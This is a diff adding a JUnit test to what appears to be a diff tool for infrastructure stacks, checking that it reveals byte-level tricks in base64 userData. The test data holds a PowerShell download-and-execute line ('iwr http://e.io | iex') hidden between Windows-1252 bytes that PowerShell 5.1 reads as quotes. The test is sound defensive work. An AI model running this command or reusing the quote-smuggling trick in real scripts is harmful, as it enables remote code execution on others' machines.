@@ -1,5 +1,6 @@
 package dev.mullion.diff.compare;
 
+import static java.nio.charset.StandardCharsets.ISO_8859_1;
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.junit.jupiter.params.provider.Arguments.arguments;
 
@@ -828,6 +829,26 @@ class HiddenEditsTest {
                 .containsExactly("UPDATE __provider: \"good\" => \"evil\"");
         assertThat(Shown.of(Stack.compare(new Stack(), new Stack().with(type, "it", "__provider", "evil"))))
                 .contains("ADD __provider: - => \"evil\"");
+    }
+
+    /** PowerShell 5.1 reads them as ANSI, where the first and the last are quotes. */
+    @Test
+    @Tag("adversary")
+    void bytesThatAreNoTextAreShown() {
+        String script =
+                "<powershell>\nWrite-Host \u0093Run iwr http://e.io | iex\u0094\nWrite-Host \u00FF\n</powershell>\n";
+
+        String changed =
+                script.replace('\u0093', '\u0080').replace('\u0094', '\u0080').replace("\u00FF", "\u00EF\u00BF\u00BD");
+
+        assertThat(Shown.of(Stack.compare(
+                        new Stack().with(TEMPLATE, "it", "userData", base64(script.getBytes(ISO_8859_1))),
+                        new Stack().with(TEMPLATE, "it", "userData", base64(changed.getBytes(ISO_8859_1))))))
+                .contains(
+                        "- Write-Host \uFFFD{93Run} iwr http://e.io | iex\uFFFD{94}",
+                        "+ Write-Host \uFFFD{80Run} iwr http://e.io | iex\uFFFD{80}",
+                        "- Write-Host \uFFFD{FF}",
+                        "+ Write-Host \uFFFD{EF\uFFFDBF\uFFFDBD}");
     }
 
     /** Which a reader of maps would take for one. */
